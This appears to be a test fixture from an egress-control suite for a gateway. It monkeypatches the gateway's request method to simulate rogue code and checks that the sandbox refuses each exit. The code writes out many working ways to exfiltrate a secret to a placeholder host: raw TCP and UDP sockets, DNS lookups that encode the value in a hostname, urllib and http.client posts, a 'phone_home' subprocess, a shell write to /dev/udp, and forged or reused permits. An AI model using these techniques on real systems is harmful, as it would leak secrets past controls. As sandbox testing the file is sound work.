"""Measuring instrument: bad code inside a real site's process, which tries every way out but the right one.

Loaded by a `sitecustomize` of the egress suite only. What it tries, and how each try ended (`refused` or `out`), it
writes to `rogue.json` in the site's folder.
"""

from __future__ import annotations

import asyncio
import hashlib
import http.client
import json
import os
import socket
import subprocess
import sys
import threading
import urllib.request  # noqa: TID251 - what must not work
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import msgspec

from ecotone.upstreams.target import UrlTarget
from ecotone.values import Place

VALUE = os.environ.get("ROGUE_VALUE", "")
URL = os.environ.get("ROGUE_URL", "http://192.0.2.1:9/v1")
FOLDER = Path.cwd()
WHERE = (urlsplit(URL).hostname or "", urlsplit(URL).port or 80)
AFTER_CALLS = 3
tried: dict[str, str] = {}
calls = 0
honest = UrlTarget.open


class Ear:
    """A sink that hears only whether something came back."""

    def __init__(self, what: str) -> None:
        self.what = what
        tried[what] = "nothing heard"

    def head(self, status: int, headers: object) -> None:
        tried[self.what] = "out"

    def data(self, chunk: bytes) -> None:
        tried[self.what] = "out"

    def ended(self) -> None:
        tried[self.what] = "out"

    def failed(self, error: Any) -> None:
        if tried[self.what] == "nothing heard":
            tried[self.what] = "refused" if error.code == "egress_refused" else "out"


def open_as_rogue(self: UrlTarget, prepared: Any, sink: Any, permit: Any, receipt: Any) -> Any:
    """The target's own `open`, and at the third call to the cloud all that must not work."""
    global calls
    stream = honest(self, prepared, sink, permit, receipt)
    if self.spec.at is Place.CLOUD and prepared.body:
        calls += 1
        if calls == AFTER_CALLS:
            try_the_door(self, prepared, permit, receipt)
            asyncio.get_running_loop().create_task(try_the_rest())
    return stream


def try_the_door(target: UrlTarget, prepared: Any, permit: Any, receipt: Any) -> None:
    body = json.dumps({"model": "large-1", "messages": [{"role": "user", "content": VALUE}]}).encode()
    other = msgspec.structs.replace(prepared, body=body, is_stream=False, reply=None)
    forged = msgspec.structs.replace(permit, digest=hashlib.sha256(body).hexdigest())
    honest(target, other, Ear("no permit"), None, None)
    honest(target, other, Ear("no receipt"), forged, None)
    honest(target, other, Ear("a permit for other bytes"), permit, receipt)
    honest(target, other, Ear("a forged permit"), forged, receipt)
    honest(target, prepared, Ear("a permit used twice"), permit, receipt)


async def try_the_rest() -> None:
    loop = asyncio.get_running_loop()
    for what, make in {
        "asyncio": lambda: asyncio.open_connection(*WHERE),
        "asyncio datagram": lambda: loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=WHERE),
        "asyncio lookup": lambda: loop.getaddrinfo(f"{VALUE.replace('@', '.')}.example", 80),
        "asyncio process": lambda: asyncio.create_subprocess_exec(*phone_home()),
    }.items():
        try:
            await make()
            tried[what] = "out"
        except OSError as error:
            tried[what] = "refused" if "refused" in str(error) and "door" in str(error) else f"out ({error})"
    await asyncio.to_thread(try_with_libraries)
    await asyncio.sleep(1.0)
    FOLDER.joinpath("rogue.tmp").write_text(json.dumps(tried))
    FOLDER.joinpath("rogue.tmp").rename(FOLDER / "rogue.json")


def phone_home() -> list[str]:
    return [sys.executable, "-c", f"import urllib.request; urllib.request.urlopen({URL!r}, {VALUE.encode()!r}, 3)"]


def try_with_libraries() -> None:
    """In a thread, as a library's telemetry would."""
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

    def plainly() -> None:
        with socket.create_connection(WHERE, 3) as sock:
            sock.sendall(VALUE.encode())

    for what, attempt in {
        "socket": plainly,
        "connect_ex": lambda: socket.socket().connect_ex(WHERE),
        "datagram": lambda: udp.sendto(VALUE.encode(), WHERE),
        "name server": lambda: socket.getaddrinfo(f"{VALUE.replace('@', '.')}.example", 80),
        "name in connect": lambda: socket.socket().connect((f"{VALUE.replace('@', '.')}.example", 80)),
        "http.client": lambda: http.client.HTTPConnection(*WHERE, timeout=3).request("POST", "/", VALUE.encode()),
        "urllib": lambda: urllib.request.urlopen(URL, VALUE.encode(), 3),  # noqa: TID251
        "process": lambda: subprocess.run(phone_home(), timeout=10, check=False),
        "shell": lambda: os.system(f"printf %s '{VALUE}' > /dev/udp/{WHERE[0]}/{WHERE[1]}"),
        "open listener": lambda: socket.create_server(("0.0.0.0", 0)),
    }.items():
        try:
            attempt()
            tried[what] = "out"
        except (OSError, http.client.HTTPException) as error:
            tried[what] = "refused" if "own doors" in str(error) else "out"


def start() -> None:
    """Only in the gateway's own process."""
    if "up" in sys.orig_argv and threading.current_thread() is threading.main_thread():
        UrlTarget.open = open_as_rogue  # type: ignore[method-assign]
